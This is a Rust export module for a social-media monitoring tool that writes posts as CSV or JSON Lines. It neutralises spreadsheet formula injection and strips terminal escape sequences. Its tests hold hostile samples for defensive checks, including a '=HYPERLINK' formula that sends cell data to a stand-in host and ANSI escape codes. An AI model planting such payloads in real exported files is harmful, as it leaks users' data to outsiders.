//! Stored posts for analysts, as CSV or JSON Lines: `pantau export` and `GET /api/export`.
//!
//! One record per post with the columns of [`COLUMNS`], in that order, the same names in both
//! formats: stable, so that a spreadsheet or a notebook built on one export reads the next.
//! Times are local (the `[schedule] timezone`, WITA by default) in RFC 3339 with their offset
//! (`2026-11-27T09:00:00+08:00`); a count the platform did not state is empty (CSV) or null
//! (JSON), never 0.
//!
//! Post text is written by strangers and a spreadsheet runs a cell that starts with `=`, `+`,
//! `-` or `@` as a formula (`=HYPERLINK(…)` sends the analyst's data away; OWASP's "CSV
//! injection"). Every text cell of the CSV that starts with one of these, or with a tab or a
//! carriage return, gets a leading `'`, which spreadsheets show as text ([`neutralise`]). Our
//! own numbers (ids, counts, a negative score) are left as they are: they are numbers, not
//! formulas. JSON Lines carries the text unchanged: it is data for programs, not cells.

use std::borrow::Cow;
use std::io::Write;

use jiff::Timestamp;
use jiff::tz::TimeZone;
use serde::Serialize;

use crate::store::StoreError;
use crate::store::browse::ListedPost;

/// The columns (CSV header) and JSON fields of an export, in order.
pub const COLUMNS: [&str; 20] = [
    "id",
    "published",
    "source",
    "platform",
    "author",
    "url",
    "title",
    "text",
    "topics",
    "regions",
    "mentioned_topics",
    "mentioned_regions",
    "sentiment",
    "sentiment_score",
    "story",
    "likes",
    "shares",
    "comments",
    "views",
    "followers",
];

/// What an export is written as.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Format {
    /// RFC 4180: comma separated, `"` quoted, a header row, CRLF line ends.
    #[default]
    Csv,
    /// One JSON object per line.
    Jsonl,
}

impl Format {
    /// `csv` or `jsonl` (also `ndjson`), any case.
    pub fn from_name(name: &str) -> Option<Format> {
        match name.trim().to_ascii_lowercase().as_str() {
            "csv" => Some(Format::Csv),
            "jsonl" | "ndjson" => Some(Format::Jsonl),
            _ => None,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Jsonl => "jsonl",
        }
    }

    /// The extension of a file of this format (without the dot).
    pub fn extension(self) -> &'static str {
        self.as_str()
    }

    /// The HTTP `Content-Type`.
    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Jsonl => "application/x-ndjson; charset=utf-8",
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("ekspor tidak dapat ditulis")]
    Write(#[source] std::io::Error),
    #[error("ekspor tidak dapat ditulis: {0}")]
    Encode(String),
    #[error(transparent)]
    Store(#[from] StoreError),
}

impl From<std::io::Error> for ExportError {
    fn from(e: std::io::Error) -> ExportError {
        ExportError::Write(e)
    }
}

impl From<csv::Error> for ExportError {
    fn from(e: csv::Error) -> ExportError {
        // An I/O error stays one, so that a closed pipe or a client gone is told apart.
        let text = e.to_string();
        match e.into_kind() {
            csv::ErrorKind::Io(io) => ExportError::Write(io),
            _ => ExportError::Encode(text),
        }
    }
}

impl ExportError {
    pub fn hint(&self) -> Option<String> {
        match self {
            ExportError::Store(e) => e.hint(),
            _ => None,
        }
    }
}

/// A post as an export record: the fields of [`COLUMNS`], in order.
#[derive(Debug, Serialize)]
pub struct Record<'a> {
    pub id: i64,
    pub published: String,
    pub source: &'a str,
    pub platform: &'a str,
    pub author: Option<&'a str>,
    pub url: Option<&'a str>,
    pub title: Option<&'a str>,
    pub text: &'a str,
    pub topics: &'a [String],
    pub regions: &'a [String],
    pub mentioned_topics: &'a [String],
    pub mentioned_regions: &'a [String],
    pub sentiment: Option<&'a str>,
    pub sentiment_score: Option<f64>,
    pub story: Option<i64>,
    pub likes: Option<u64>,
    pub shares: u64,
    pub comments: Option<u64>,
    pub views: Option<u64>,
    pub followers: Option<u64>,
}

impl<'a> Record<'a> {
    /// The record of `p`, its time in `tz`.
    pub fn of(p: &'a ListedPost, tz: &TimeZone) -> Record<'a> {
        let post = &p.post;
        Record {
            id: post.id,
            published: local_rfc3339(post.published, tz),
            source: post.source.as_str(),
            platform: post.platform.as_str(),
            author: post.author.as_deref(),
            url: post.url.as_deref(),
            title: post.title.as_deref(),
            text: &post.text,
            topics: &p.topics,
            regions: &p.regions,
            mentioned_topics: &p.mentioned_topics,
            mentioned_regions: &p.mentioned_regions,
            sentiment: post.sentiment.as_deref(),
            sentiment_score: post.sentiment_score,
            story: post.story,
            likes: post.reach.likes,
            shares: post.reach.shares,
            comments: post.reach.comments,
            views: post.reach.views,
            followers: post.reach.followers,
        }
    }

    /// The CSV cells, in [`COLUMNS`]' order: text neutralised, lists space separated,
    /// absent values empty.
    fn cells(&self) -> [Cow<'a, str>; 20] {
        let text = |s: Option<&'a str>| s.map_or(Cow::Borrowed(""), neutralise);
        let list = |l: &[String]| neutralise_owned(l.join(" "));
        let number = |n: Option<u64>| Cow::Owned(n.map(|n| n.to_string()).unwrap_or_default());
        [
            Cow::Owned(self.id.to_string()),
            Cow::Owned(self.published.clone()),
            neutralise(self.source),
            neutralise(self.platform),
            text(self.author),
            text(self.url),
            text(self.title),
            neutralise(self.text),
            list(self.topics),
            list(self.regions),
            list(self.mentioned_topics),
            list(self.mentioned_regions),
            text(self.sentiment),
            Cow::Owned(
                self.sentiment_score
                    .map(|s| s.to_string())
                    .unwrap_or_default(),
            ),
            Cow::Owned(self.story.map(|s| s.to_string()).unwrap_or_default()),
            number(self.likes),
            Cow::Owned(self.shares.to_string()),
            number(self.comments),
            number(self.views),
            number(self.followers),
        ]
    }
}

/// `ts` in `tz` as RFC 3339 with the zone's offset: `2026-11-27T09:00:00+08:00`.
pub fn local_rfc3339(ts: Timestamp, tz: &TimeZone) -> String {
    ts.to_zoned_datetime(tz.clone())
        .strftime("%Y-%m-%dT%H:%M:%S%:z")
        .to_string()
}

/// A text cell a spreadsheet will not run: with a leading `'` when it starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (OWASP's list), else unchanged.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if starts_dangerously(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn neutralise_owned<'a>(cell: String) -> Cow<'a, str> {
    if starts_dangerously(&cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Owned(cell)
    }
}

fn starts_dangerously(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Writes export records to `W`, buffered: the CSV header first, then one record per
/// [`Exporter::write`]; [`Exporter::finish`] flushes and hands `W` back.
pub struct Exporter<W: Write> {
    sink: Sink<W>,
    tz: TimeZone,
    written: u64,
    /// Drop control characters from CSV cells: the CSV goes to a terminal.
    terminal: bool,
}

enum Sink<W: Write> {
    // Boxed: the csv writer's state is some 350 bytes, and an exporter is moved around.
    Csv(Box<csv::Writer<W>>),
    Jsonl(std::io::BufWriter<W>),
}

impl<W: Write> Exporter<W> {
    /// An exporter of `format` to `out`, with times in `tz`. A CSV's header is written now.
    pub fn new(out: W, format: Format, tz: TimeZone) -> Result<Exporter<W>, ExportError> {
        let sink = match format {
            Format::Csv => {
                let mut w = csv::WriterBuilder::new()
                    .terminator(csv::Terminator::CRLF)
                    .buffer_capacity(64 * 1024)
                    .from_writer(out);
                w.write_record(COLUMNS)?;
                Sink::Csv(Box::new(w))
            }
            Format::Jsonl => Sink::Jsonl(std::io::BufWriter::with_capacity(64 * 1024, out)),
        };
        Ok(Exporter {
            sink,
            tz,
            written: 0,
            terminal: false,
        })
    }

    /// For a CSV shown on a terminal: control characters (escape sequences a stranger wrote
    /// into a post) are dropped from its cells. Files and pipes get the text exactly; JSON
    /// escapes them anyway.
    pub fn on_terminal(mut self) -> Exporter<W> {
        self.terminal = true;
        self
    }

    /// Writes one post.
    pub fn write(&mut self, post: &ListedPost) -> Result<(), ExportError> {
        let record = Record::of(post, &self.tz);
        match &mut self.sink {
            Sink::Csv(w) if self.terminal => w.write_record(
                record
                    .cells()
                    .iter()
                    .map(|c| c.replace(|ch: char| ch.is_control() && ch != '\n', "")),
            )?,
            Sink::Csv(w) => w.write_record(record.cells().iter().map(|c| c.as_bytes()))?,
            Sink::Jsonl(w) => {
                serde_json::to_writer(&mut *w, &record).map_err(|e| match e.io_error_kind() {
                    Some(_) => ExportError::Write(std::io::Error::from(e)),
                    None => ExportError::Encode(e.to_string()),
                })?;
                w.write_all(b"\n")?;
            }
        }
        self.written += 1;
        Ok(())
    }

    /// Posts written so far.
    pub fn written(&self) -> u64 {
        self.written
    }

    /// Flushes everything and returns the writer.
    pub fn finish(self) -> Result<W, ExportError> {
        // The flush's error keeps its kind (a closed pipe stays one).
        let failed =
            |e: &std::io::Error| ExportError::Write(std::io::Error::new(e.kind(), e.to_string()));
        match self.sink {
            Sink::Csv(w) => (*w).into_inner().map_err(|e| failed(e.error())),
            Sink::Jsonl(w) => w.into_inner().map_err(|e| failed(e.error())),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_others_kept() {
        for hostile in [
            "=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\")",
            "+1",
            "-2",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(hostile), format!("'{hostile}"));
        }
        for fine in ["banjir", "1+1", " =1", "", "'=1", "a=b"] {
            assert_eq!(neutralise(fine), fine);
        }
    }

    #[test]
    fn a_terminal_gets_no_escape_sequence() {
        let post = ListedPost {
            post: crate::store::StoredPost {
                id: 1,
                source: crate::model::SourceId::new("warga"),
                url: None,
                title: None,
                text: "banjir \u{1b}[2J\u{1b}[31mPALSU\nbaris dua".into(),
                author: None,
                published: Timestamp::UNIX_EPOCH,
                sentiment: None,
                sentiment_score: None,
                story: None,
                platform: crate::model::Platform::new("lain"),
                reach: Default::default(),
            },
            topics: vec!["banjir".into()],
            regions: Vec::new(),
            mentioned_topics: Vec::new(),
            mentioned_regions: Vec::new(),
        };
        let tz = crate::time::default_zone();
        let write = |terminal: bool| {
            let mut e = Exporter::new(Vec::new(), Format::Csv, tz.clone()).unwrap();
            if terminal {
                e = e.on_terminal();
            }
            e.write(&post).unwrap();
            String::from_utf8(e.finish().unwrap()).unwrap()
        };
        assert!(write(false).contains("\u{1b}[2J"));
        let shown = write(true);
        assert!(!shown.contains('\u{1b}'), "{shown:?}");
        assert!(
            shown.contains("banjir [2J[31mPALSU\nbaris dua"),
            "{shown:?}"
        );
    }

    #[test]
    fn formats_parse_by_name() {
        assert_eq!(Format::from_name("CSV"), Some(Format::Csv));
        assert_eq!(Format::from_name("ndjson"), Some(Format::Jsonl));
        assert_eq!(Format::from_name("xlsx"), None);
    }

    #[test]
    fn local_times_carry_their_offset() {
        let ts: Timestamp = "2026-11-27T01:00:00Z".parse().unwrap();
        assert_eq!(
            local_rfc3339(ts, &crate::time::default_zone()),
            "2026-11-27T09:00:00+08:00"
        );
    }
}
